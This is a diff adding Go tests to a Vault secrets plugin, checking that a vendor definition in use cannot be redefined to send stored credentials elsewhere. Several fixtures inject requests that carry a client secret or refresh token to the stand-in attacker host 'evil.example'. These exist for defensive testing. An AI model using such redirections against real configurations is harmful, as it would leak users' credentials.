@@ -1,0 +1,197 @@
+package tokenbroker_test
+
+import (
+	"net/http"
+	"strings"
+	"testing"
+	"testing/synctest"
+
+	"github.com/hashicorp/vault/sdk/logical"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"vault-plugin-secrets-tokenbroker/internal/testing/engine"
+)
+
+// elsewhere sends acme's secrets to another host.
+func elsewhere() map[string]any { return redefine("{region}.acme.example", "{region}.evil.example") }
+
+func TestGuarantee13ADefinitionInUseIsNotChangedToSendAStoredSecretElsewhere(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		e, v := newAcme(t)
+		e.Write("config/acme/prod", acmeFields)
+		for name, definition := range map[string]map[string]any{
+			"host":       elsewhere(),
+			"path":       redefine(".example/token", ".example/other"),
+			"step":       redefine(`"request": {"form"`, `"before": [{"request": {"url": "https://evil.example/", "form": {"s": "{client_secret}"}}}], "request": {"form"`),
+			"revocation": redefine(`"answer":`, `"revocation": {"url": "https://evil.example/"}, "answer":`),
+			"refresh":    redefine(`"auth": "client_secret_post",`, `"auth": "client_secret_post", "refresh": {"url": "https://evil.example/", "form": {"r": "{refresh_token}"}},`),
+		} {
+			message := refusedWrite(e, "vendors/acme", definition)
+			assert.Contains(t, message, "definition: with it, the stored secrets of config/acme/prod would be sent to a new destination", name)
+			assert.NotContains(t, message, acmeSecret, "guarantee 6")
+		}
+		_, status, message := e.Request(logical.DeleteOperation, "vendors/acme", nil)
+		assert.Equal(t, http.StatusBadRequest, status)
+		assert.Contains(t, message, "vendor: config/acme/prod uses the definition; delete its credentials first (1 in all)")
+
+		e.Restart()
+		assert.Contains(t, refusedWrite(e, "vendors/acme", elsewhere()), "new destination", "nor after a restart")
+		assert.Zero(t, strings.Compare(acmeDefinition, e.Read("vendors/acme").Data["definition"].(string)), "byte for byte")
+		e.Write("refresh/prod", nil)
+		close(v.hosts)
+		for host := range v.hosts {
+			assert.Equal(t, "eu.acme.example", host)
+		}
+		v.hosts = make(chan string, 100)
+
+		e.Write("vendors/acme", redefine("Create a client.", "Create an application."))
+		_, status, _ = e.Request(logical.DeleteOperation, "config/acme/prod", nil)
+		require.Equal(t, 200, status)
+		e.Write("vendors/acme", elsewhere())
+		e.Write("config/acme/prod", acmeFields)
+		assert.Equal(t, "eu.evil.example", <-v.hosts, "a secret that is given again goes where its writer says")
+	})
+}
+
+func TestADefinitionInUseKeepsTheFieldsThatAreStored(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		e, _ := newAcme(t)
+		fields := map[string]any{"audience": "orders"}
+		for name, value := range acmeFields {
+			fields[name] = value
+		}
+		e.Write("config/acme/prod", fields)
+		audience := `, "audience": {"description": "the API (orders)"}`
+		for name, test := range map[string]struct {
+			definition map[string]any
+			want       string
+		}{
+			"field that disappears":      {redefine(audience, "", `, "audience": "{audience}"`, ""), "config/acme/prod has a field, or a value of a type, that this definition does not have"},
+			"field of another type":      {redefine(`"the API (orders)"}`, `"the API (orders)", "type": "duration"}`), "definition: "},
+			"value that is not allowed":  {redefine(`"the API (orders)"}`, `"the API (orders)", "allowed": ["invoices"]}`), `definition: with it, config/acme/prod is refused: audience: unknown value "orders"`},
+			"field that must be set now": {redefine(audience, audience+`, "tenant": {"description": "the tenant", "required": true}`, `"audience": "{audience}"`, `"audience": "{audience}", "tenant": "{tenant}"`), "is refused: tenant: must be set"},
+			"pattern":                    {redefine(`"[a-z]{2}"`, `"[a-z]{3}"`), `is refused: region: "eu" is not what Acme needs`},
+			"secret that is none":        {redefine(`"client_id": {"required": true}`, `"client_id": {"required": true, "secret": true}`, `"X-Acme-Client": "{client_id}"`, `"X-Acme-Client": "{region}"`), ""},
+		} {
+			_, status, message := e.Request(logical.UpdateOperation, "vendors/acme", test.definition)
+			if test.want == "" {
+				require.Equal(t, 200, status, message)
+				assert.NotContains(t, e.Read("config/acme/prod").Data, "client_id", "it is a secret from now on")
+				continue
+			}
+			require.Equal(t, http.StatusBadRequest, status, name)
+			assert.Contains(t, message, test.want, name)
+			assert.Equal(t, "orders", e.Read("config/acme/prod").Data["audience"], name)
+		}
+	})
+}
+
+// The definition changes while the vendor verifies a credential that is not stored yet.
+func TestGuarantee13ACredentialIsNotStoredWhileItsDefinitionChanges(t *testing.T) {
+	e, v := newAcme(t)
+	v.wait = make(chan struct{})
+	write := func(path string, data map[string]any) chan int {
+		done := make(chan int, 1)
+		go func() {
+			_, status, _ := e.Request(logical.UpdateOperation, path, data)
+			done <- status
+		}()
+		return done
+	}
+	credential := write("config/acme/prod", acmeFields)
+	assert.Equal(t, "eu.acme.example", <-v.hosts)
+	definition := write("vendors/acme", elsewhere())
+	close(v.wait)
+	assert.Equal(t, 200, <-credential)
+	assert.Equal(t, http.StatusBadRequest, <-definition)
+	e.Write("refresh/prod", nil)
+	assert.Equal(t, "eu.acme.example", <-v.hosts)
+}
+
+func TestADefinitionOfAnotherNodeCountsOnceItIsInvalidated(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		e, v := newAcme(t)
+		e.Write("config/acme/prod", acmeFields)
+		e.Read("vendors/acme")
+		standby := e.Backend
+		e.Restart() // acts as the active node on the same storage
+		e.Write("vendors/acme", redefine(`"Acme"`, `"Acme Inc."`, `"header": "X-Acme-Token"`, `"header": "X-Next-Token"`))
+		e.Write("vendors/other", redefine())
+		e.Backend = standby
+		e.Backend.InvalidateKey(t.Context(), "vendors/acme")
+		for _, key := range []string{"vendor/acme", "vendors/acme"} {
+			e.Backend.InvalidateKey(t.Context(), key)
+		}
+		assert.Equal(t, "Acme Inc.", e.Read("vendors/acme").Data["title"])
+		resp, status, message := e.Request(logical.ReadOperation, "creds/prod", nil)
+		require.Equal(t, 200, status, message)
+		assert.True(t, strings.HasPrefix(resp.Data["http_header"].(string), "X-Next-Token: "))
+		assert.Equal(t, "Acme", e.Read("vendors/other").Data["title"])
+		assert.NotZero(t, v.requests.Load())
+	})
+}
+
+func TestADamagedDefinitionIsReportedAndCanBeReplaced(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		e, _ := newAcme(t)
+		e.Write("config/acme/prod", acmeFields)
+		var key string
+		for stored := range e.Dump() {
+			if strings.HasPrefix(stored, "vendor") {
+				key = stored
+			}
+		}
+		require.NotEmpty(t, key)
+		e.Damage(key)
+		e.Restart()
+		status, message := e.Refused("vendors/acme")
+		assert.Equal(t, http.StatusInternalServerError, status)
+		assert.Contains(t, message, "write the definition again")
+		resp, status, message := e.Request(logical.ListOperation, "vendors/", nil)
+		require.Equal(t, 200, status, message)
+		assert.Equal(t, map[string]any{"title": "(cannot be read)", "built_in": false}, resp.Data["key_info"].(map[string]any)["acme"])
+		e.Read("vendors/snowflake")
+
+		assert.Contains(t, refusedWrite(e, "vendors/acme", elsewhere()), "new destination", "guarantee 13")
+		e.Write("vendors/acme", redefine())
+		_, status, message = e.Request(logical.ReadOperation, "creds/prod", nil)
+		assert.Equal(t, 200, status, message)
+	})
+}
+
+func TestAWriteThatStorageRefusesChangesNothing(t *testing.T) {
+	synctest.Test(t, func(t *testing.T) {
+		e, _ := newAcme(t)
+		storage := &engine.FaultyStorage{Storage: e.Storage}
+		e.Storage = storage
+		e.Restart()
+		e.Write("config/acme/prod", acmeFields)
+		for _, path := range []string{"vendors/acme", "vendors/next"} {
+			storage.Refuse.Store(true)
+			_, status, _ := e.Request(logical.UpdateOperation, path, redefine(`"Acme"`, `"Acme Inc."`))
+			assert.Equal(t, http.StatusInternalServerError, status, path)
+			storage.Refuse.Store(false)
+		}
+		assert.Equal(t, "Acme", e.Read("vendors/acme").Data["title"])
+		_, status, _ := e.Request(logical.ReadOperation, "vendors/next", nil)
+		assert.Equal(t, http.StatusNotFound, status)
+
+		storage.RefuseReads.Store(true)
+		_, status, _ = e.Request(logical.UpdateOperation, "vendors/acme", elsewhere())
+		assert.Equal(t, http.StatusInternalServerError, status, "whether it is in use cannot be read")
+		_, status, _ = e.Request(logical.DeleteOperation, "vendors/acme", nil)
+		assert.Equal(t, http.StatusInternalServerError, status)
+		storage.RefuseReads.Store(false)
+
+		_, status, _ = e.Request(logical.DeleteOperation, "config/acme/prod", nil)
+		require.Equal(t, 200, status)
+		storage.RefuseDeletes.Store(true)
+		_, status, _ = e.Request(logical.DeleteOperation, "vendors/acme", nil)
+		assert.Equal(t, http.StatusInternalServerError, status)
+		storage.RefuseDeletes.Store(false)
+		assert.Equal(t, "Acme", e.Read("vendors/acme").Data["title"])
+		e.Restart()
+		e.Write("config/acme/prod", acmeFields)
+	})
+}
